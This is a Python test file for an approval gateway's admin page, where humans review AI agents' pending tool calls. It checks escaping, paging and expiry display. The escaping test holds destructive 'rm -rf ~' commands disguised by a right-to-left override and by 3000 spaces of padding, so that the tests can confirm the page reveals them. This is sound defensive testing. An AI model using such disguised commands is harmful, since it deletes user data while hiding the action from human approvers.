    async def make_pending() -> None:
        async with handshake_session(tg.url) as session:
            result = await session.call_tool(TOOL, arguments)
        assert denial_of(result).get("reason") == "approval_required", result

    run_async(make_pending)
    browser = browsers("escapes", tg.base)
    driver = browser.driver
    driver.get(f"{tg.base}/admin/")
    sign_in(browser, token)
    wait_signed_in(browser, token)
    card = wait_for(browser, "the card", lambda: (driver.find_elements(By.CSS_SELECTOR, "#list article.card") or [None])[0], CARD_SECONDS)

    def check() -> None:
        pre = driver.find_element(By.CSS_SELECTOR, "#list article.card pre")
        rendered = pre.get_attribute("textContent")
        # No invisible or direction-changing character reaches the rendered text; each shows as its escape.
        for char, escape in invisible.items():
            # (A raw newline is the pretty-printing's own; the one inside the string must show as \n.)
            assert char == "\n" or char not in rendered, f"U+{ord(char):04X} is in the page raw"
        marks = [e.text for e in pre.find_elements(By.CSS_SELECTOR, "span.esc")]
        for escape in invisible.values():
            assert escape in marks, (escape, marks)
        assert "[3000 spaces]" in marks, marks
        # The marks are highlighted: a background unlike the text's.
        mark = pre.find_element(By.CSS_SELECTOR, "span.esc")
        assert mark.value_of_css_property("background-color") not in ("rgba(0, 0, 0, 0)", "transparent")
        # Reading order is the stored order: the part an override would have flipped reads as sent.
        assert "echo safe \\u202e~ fr- mr\\u202c" in rendered, rendered[:300]
        assert '"ls[3000 spaces]; rm -rf ~"' in rendered
        assert '\\u0007\\n\\u00a0"' in rendered, "the string's newline is an escape, not a line break"
        # Nothing is pushed out of view: the long string wraps inside the card, and its tail is displayed.
        width = driver.execute_script("return [arguments[0].scrollWidth, arguments[0].clientWidth];", pre)
        assert width[0] <= width[1], f"the arguments overflow sideways: {width}"
        assert driver.execute_script("return document.documentElement.scrollWidth <= document.documentElement.clientWidth;")
        assert "TAIL" in pre.text

    retry_stale(check)
    assert card is not None
    driver.execute_script("document.querySelectorAll('span.esc')[1].scrollIntoView({block: 'center'});")
    save_screenshot(browser, "admin-page-escapes.png", record_property)
    browser.assert_only_own_origin_and_clean_console()


# ---------------------------------------------------------------------------------------------------------
# 6. Fifty at a time


def make_pending_approvals(tg: Any, tokens: list[str], per_token: int) -> None:
    """`per_token` pending approvals for each grant (raw per-request-era calls, wait 0 s), created one after another."""
    from helpers import modern_headers, tool_call

    with httpx2.Client(timeout=10.0) as http:
        n = 0
        for grant_token in tokens:
            for i in range(per_token):
                n += 1
                body = tool_call(n, TOOL, {"amount": n, "tag": f"t{n:03d}", "force": False, "opts": {}}, modern=True)
                authorization = {"Authorization": f"Bearer {grant_token}"} if grant_token else {}
                response = http.post(tg.url, json=body, headers={**modern_headers("tools/call", TOOL), **authorization,
                                                                 "Accept": "application/json, text/event-stream"})
                assert response.status_code == 200, (response.status_code, response.text)
                assert "approval_required" in response.text, response.text


PAGING_POLICY: dict[str, Any] = {"version": "1", "default": "deny",
                                 "tools": {TOOL: {"action": "approve", "approval": {"wait": "0s", "ttl": "1h"}}}}


def paging_grants(count: int) -> tuple[dict[str, Any], list[str]]:
    """Several grants, so no per-grant cap on pending approvals stands in the way of 60."""
    import hashlib

    tokens = [secrets.token_hex(16) for _ in range(count)]
    grants = {"grants": [{"name": f"g{i}", "sha256": hashlib.sha256(t.encode()).hexdigest()} for i, t in enumerate(tokens)]}
    return grants, tokens


def test_the_page_lists_fifty_at_a_time(toolgate, mcp_upstream_json, browsers, tmp_path):
    admin_file, token = token_file(tmp_path)
    grants, tokens = paging_grants(6)
    tg = toolgate(mcp_upstream_json.url, PAGING_POLICY, grants=grants, args=["--admin-token-file", str(admin_file)])
    make_pending_approvals(tg, tokens, 10)

    browser = browsers("paging", tg.base)
    driver = browser.driver
    driver.get(f"{tg.base}/admin/")
    sign_in(browser, token)
    wait_signed_in(browser, token)

    def tags() -> list[str]:
        return [re.search(r'"tag": "(t\d+)"', c.find_element(By.TAG_NAME, "pre").text).group(1) for c in browser.cards()]

    wait_for(browser, "50 cards", lambda: len(browser.cards()) == 50 or None, CARD_SECONDS)
    assert retry_stale(tags) == [f"t{n:03d}" for n in range(1, 51)], "oldest first"
    assert driver.find_element(By.ID, "summary").text == "Showing 1\u201350 of 60, oldest first."
    driver.find_element(By.ID, "next-page").click()
    wait_for(browser, "the next 10", lambda: len(browser.cards()) == 10 or None, 5)
    assert retry_stale(tags) == [f"t{n:03d}" for n in range(51, 61)]
    assert not driver.find_element(By.ID, "next-page").is_displayed()
    driver.find_element(By.ID, "first-page").click()
    wait_for(browser, "the first 50 again", lambda: len(browser.cards()) == 50 or None, 5)
    browser.assert_only_own_origin_and_clean_console()


# ---------------------------------------------------------------------------------------------------------
# 7. An agent that stopped waiting: the page says so, beside the approval's own expiry (issue 23, item 8)


def test_the_page_says_when_the_agent_stopped_waiting(toolgate, mcp_upstream_json, browsers, tmp_path):
    admin_file, token = token_file(tmp_path)
    tg = toolgate(mcp_upstream_json.url, PAGING_POLICY, args=["--admin-token-file", str(admin_file)])
    make_pending_approvals(tg, [""], 1)  # no grants file: grant "default"; wait 0 s: the agent was answered approval_required at once
    listed = pending_approvals(tg.base, token)
    assert len(listed) == 1 and listed[0]["agentWaitsUntil"] == listed[0]["createdAt"], listed

    browser = browsers("stopped", tg.base)
    driver = browser.driver
    driver.get(f"{tg.base}/admin/")
    sign_in(browser, token)
    wait_signed_in(browser, token)
    card = wait_for(browser, "the card", lambda: (browser.cards() or [None])[0], CARD_SECONDS)
    wait = retry_stale(lambda: browser.cards()[0].find_element(By.CSS_SELECTOR, "p.wait").text)
    assert re.fullmatch(r"The agent stopped waiting \d+ s ago: if approved, its identical retry proceeds\.", wait), wait
    meta = retry_stale(lambda: browser.cards()[0].find_element(By.CSS_SELECTOR, "p.meta").text)
    assert re.match(r"^approval expires in (59 min|1 h 0 min) · \S+$", meta), meta
    assert card is not None
    browser.assert_only_own_origin_and_clean_console()
